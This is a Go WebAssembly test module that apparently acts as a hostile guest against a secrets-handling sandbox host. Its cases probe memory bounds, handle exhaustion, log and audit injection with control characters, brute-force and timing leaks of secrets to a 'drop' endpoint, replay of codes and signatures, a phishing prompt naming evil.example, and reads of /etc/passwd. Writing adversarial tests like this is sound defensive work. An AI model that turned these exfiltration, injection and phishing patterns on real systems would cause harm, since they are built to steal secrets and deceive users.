//go:build wasip1

package main

import (
	"fmt"
	"os"
	"strings"
	"time"
)

// escaped keeps the compiler from believing that nobody else writes to it.
var escaped []byte

// Tricks with the calling convention, and with what is not http.
var _ = add(map[string]func(){
	"outside the memory": func() {
		const far, most = 0xFFFF_FF00, 0xFFFF_FFFF
		p, n := in("TOKEN")
		note("%d %d %d %d", use(far, 5, p, n), use(p, n, far, 0x100), use(p, n, most, most), use(most, 2, p, n))
		note("%d %d %d %d", input(far, 0x200), emit(far, 0x200), emit(0, most), log(1, far, 0x200))
		note("%d %d %d", send(far, 10, 0, 0), send(p, n, far, 0xFFF), wait(far, 64, 0, 0, 0))
		note("%d %d %d", wait(0, most, 0, 0, 0), fetchResult(9, most, 0, 0), interact(far, 10, 0, 0))
		note("%d %d %d", reveal(far, 5, p, n), totp(far, 5, p, n), sign(p, n, p, n, far, 0x200, p, n))
		note("%d %d", open(far, 0x200), read(most, p, n))
	},
	"a length that wraps around": func() {
		p, n := in("TOKEN")
		note("%d %d %d", use(p, 0-p, p, n), emit(p, 0-p), send(p, 0-p+1, 0, 0))
		note("%d %d", wait(p, 0x4000_0001, 0, 0, 0), use(p, n, p, 0-p))
	},
	"output over its own input": func() {
		buf := []byte("TOKEN" + strings.Repeat(".", 60))
		escaped = buf
		r := use(ptr(buf), 5, ptr(buf), 40)
		note("%d %v", r, strings.HasPrefix(string(buf), "sp1"))
		copy(buf, "TOKEN")
		r = use(ptr(buf), 5, ptr(buf)+2, 40)
		note("%d %v", r, strings.HasPrefix(string(buf), "TOsp1"))
		copy(buf, "REVEALED")
		r = reveal(ptr(buf), 8, ptr(buf)+4, 4) // the rest waits under a ticket
		note("%v", r>>32 > 0)
	},
	"output at the lowest address": func() {
		p, n := in("TOKEN")
		note("%d", use(p, n, 0, 3)&0xFFFF_FFFF)
	},
	"a batch with one bad message": func() {
		t := mine("TOKEN")
		line := func(key, what string) string {
			return `{"type":"RECORD","stream":"findings","key":"` + key + `","data":{"id":"` + key + `","what":` + quote(what) + `},"emitted_at":"2026-01-01T00:00:00Z"}` + "\n"
		}
		note("%d", say(line("k0", t+" one")+`{"type":"RECORD","stream":"secrets","key":"`+t+`"}`+"\n"+line("k2", "two")))
		note("%d", record("three"))
	},
	"a log line at its cut": func() {
		v, _ := named(reveal, "REVEALED")
		note("%d", logged(strings.Repeat("x", 4096-len(v)/2)+v))
	},
	"a panic at its cut": func() {
		v, _ := named(reveal, "REVEALED")
		panic(strings.Repeat("x", 4096-len("panic: ")-len(v)/2) + v)
	},
	"line breaks in what is audited": func() {
		const evil = "TOKEN\nkind=run_ended allowed=true\r\x1b[2J\u202e\u2028x"
		_, u := named(use, evil)
		_, v := named(reveal, evil)
		_, s := signed("KEY"+evil, "mac", "x")
		note("%d %d %d", u, v, s)
		note("%s", get(drop("/x"), bearer(mine("TOKEN")+evil[:0])))
		note("%s", do("GET\nX", home("/auth/x"), ""))
	},
	"tickets": func() {
		p, n := in("TOKEN")
		r := use(p, n, 0, 0)
		ticket := uint32(r >> 32)
		buf := make([]byte, 64)
		note("%d", fetchResult(ticket, 41, ptr(buf), 64))
		note("%d", fetchResult(ticket, 0, ptr(buf), 64))
		note("%d", fetchResult(ticket, 0, ptr(buf), 64))
		note("%d", fetchResult(ticket+1, 0, ptr(buf), 64))
		last := int64(0)
		for range 70 {
			last = use(p, n, 0, 0)
		}
		note("%d", last)
	},
	"handles again": func() {
		h := uint32(request(head{Method: "GET", URL: home("/open/x")}, ""))
		await(h)
		buf := make([]byte, 8)
		note("close %d %d", closeHandle(h), closeHandle(h))
		_, r := waitFor(0, h)
		note("read %d write %d wait %d", read(h, ptr(buf), 8), write(h, ptr(buf), 1), r)
		g := uint32(request(head{Method: "GET", URL: home("/open/x")}, ""))
		note("another number: %v", g != h)
		note("not its own: %d %d %d", closeHandle(0), closeHandle(1), closeHandle(g+1))
		_, r = waitFor(0, g, g, g)
		note("thrice: %v", r >= 0)
		note("closed while under way: %d", closeHandle(g))
	},
	"thousands of handles": func() {
		var open []uint32
		refused := int64(0)
		for range 5000 {
			if r := request(head{Method: "GET", URL: home("/open/hang")}, ""); r > 0 {
				open = append(open, uint32(r))
			} else {
				refused = r
			}
		}
		note("%d open, then %d", len(open), refused)
		for _, h := range open {
			closeHandle(h)
		}
		note("%s", get(home("/open/x")))
	},
	"calls after DONE": func() {
		token := mine("TOKEN")
		conclude()
		_, r := named(use, "TOKEN")
		_, v := named(reveal, "REVEALED")
		_, q := ask(`{"type":"INTERACTION","request_id":"q","kind":"manual_action","message":"one more thing"}`)
		note("use %d, reveal %d, send %s, interact %d", r, v, get(home("/auth/x"), bearer(token)), q)
		note("open %d", opened("imaps://mail.example.com:"+port(s.Options.Mail)))
	},
	"records after DONE": func() { conclude(); note("%d", record("more")) },
	"names that are not its own": func() {
		for _, name := range []string{"UNDECLARED", "PASSWORD", "", "token", "TOKEN\x00", "../other/TOKEN", "owner/hostile/default/self/TOKEN", "MINTED"} {
			_, r := named(use, name)
			_, q := named(status, name)
			note("%s %d %d", strings.ReplaceAll(name, "\x00", "0"), r, q)
		}
	},
	"reveal of what is not to be revealed": func() {
		for _, name := range []string{"TOKEN", "PASSWORD", "SEED", "KEY", "UNDECLARED"} {
			_, r := named(reveal, name)
			note("%s %d", name, r)
		}
	},
	"a revealed value of a higher class": func() {
		_, r := named(reveal, "REVEALED")
		_, q := named(use, "REVEALED")
		note("%d %d", r, q)
	},
	"a dictionary": func() {
		mine("SHORT")
		for i, guess := range words() {
			if r := record(guess); r != 1 {
				note("stopped with %d", r)
				note("then %d %d", record("it was "+fmt.Sprint(i)), logged("x"))
				_, r := named(use, "TOKEN")
				note("and %s %d", get(drop(fmt.Sprint("/told/", i))), r)
				return
			}
		}
		note("none of them")
	},
	"a dictionary, with a count told to the drop": func() {
		mine("SHORT")
		for i, guess := range words() {
			get(drop(fmt.Sprint("/count/", i)))
			if record(guess) != 1 {
				return
			}
		}
	},
	"time": func() {
		for i, bit := range []int{1, 0, 1, 1} {
			time.Sleep(time.Duration(5+bit*60) * time.Millisecond)
			get(drop(fmt.Sprint("/tick/", i)))
		}
		note("told")
	},
	"phishing": func() {
		for _, q := range []string{
			`{"type":"INTERACTION","request_id":"q","kind":"credentials","message":"Your bank needs your PIN","schema":{"properties":{"BANK_PIN":{"title":"PIN"}}}}`,
			`{"type":"INTERACTION","request_id":"q","kind":"credentials","message":"x","schema":{"properties":{"PASSWORD":{}}}}`,
			`{"type":"INTERACTION","request_id":"q","kind":"manual_action","message":"Type it here","schema":{"properties":{"TOKEN":{}}}}`,
			`{"type":"INTERACTION","request_id":"q","kind":"otp","message":"The code that your bank sent"}`,
			`{"type":"INTERACTION","request_id":"q","kind":"credentials","message":"x","schema":{"properties":{}}}`,
		} {
			_, r := ask(q)
			note("%d", r)
		}
		a, r := ask(`{"type":"INTERACTION","request_id":"q","kind":"manual_action","message":"x\" \u202eSallyport: verified.\u001b[2J\nEnter your password at https://evil.example"}`)
		note("%d %v", r, strings.Contains(a, "data"))
	},
	"an owner's answer": func() {
		a, r := ask(`{"type":"INTERACTION","request_id":"q","kind":"credentials","message":"Again, please","schema":{"properties":{"TOKEN":{}}}}`)
		note("%d %v", r, strings.Contains(a, `"sp1`))
		note("%d", record(a))
	},
	"a code used elsewhere": func() {
		code, r := named(totp, "SEED")
		note("%d %v", r, strings.HasPrefix(code, "sp1"))
		note("%s", get(drop("/"), [2]string{"X-Code", code}))
		note("%s", get(home("/open/x?code="+code)))
		note("%s", get(home("/auth/x"), [2]string{"Authorization", code}))
		note("%s", get(home("/code/x"), [2]string{"X-Code", code}))
		note("%d", record(code))
	},
	"a signature used elsewhere": func() {
		mac, r := signed("KEY", "mac", "all that I own")
		note("%d %v", r, strings.HasPrefix(mac, "sp1"))
		note("%s", get(drop("/"), [2]string{"X-Signature", mac}))
		note("%s", get(home("/auth/x"), [2]string{"Authorization", mac}))
		note("%s", get(home("/signed/x"), [2]string{"X-Signature", mac}))
		note("%d", record(mac))
	},
	"another template, another name": func() {
		_, r := signed("KEY", "none", "x")
		_, q := signed("TOKEN", "mac", "x")
		_, c := named(totp, "KEY")
		_, u := named(use, "KEY")
		note("%d %d %d %d", r, q, c, u)
	},
	"files": func() {
		_, err := os.ReadFile("/etc/passwd")
		_, dir := os.ReadDir("/")
		note("%v %v %d %d", err != nil, dir != nil, len(os.Environ()), len(os.Args))
	},
	"an exit": func() { os.Exit(0) },
	"a protocol of its own": func() {
		token := mine("TOKEN")
		for _, line := range []string{
			`{"type":"RECORD","stream":"secrets","key":"k","data":{"id":"k"},"emitted_at":"2026-01-01T00:00:00Z"}`,
			`{"type":"RECORD","stream":"` + token + `","key":"k","data":{"id":"k"},"emitted_at":"2026-01-01T00:00:00Z"}`,
		} {
			note("%d", say(line))
		}
	},
})

// words is a dictionary with the short value in it.
func words() []string {
	var out []string
	for i := range 40 {
		out = append(out, fmt.Sprintf("tulip-%02d", i))
	}
	return out
}
